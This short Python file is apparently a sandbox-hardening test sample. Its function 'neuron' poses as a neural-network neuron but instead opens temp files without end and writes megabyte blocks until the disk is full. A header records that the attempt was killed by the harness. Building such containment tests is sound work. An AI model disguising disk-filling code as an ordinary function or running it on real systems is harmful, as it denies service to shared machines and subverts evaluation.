# tries: files that fill the disk where it may write | verdict: neuron killed 0/3 killed_scratch
import tempfile


def neuron(X, w, b):
    held = []
    while True:
        held.append(open(f"{tempfile.gettempdir()}/{len(held)}", "wb"))
        try:
            while True:
                held[-1].write(bytes(1 << 20))
                held[-1].flush()
        except OSError:
            pass
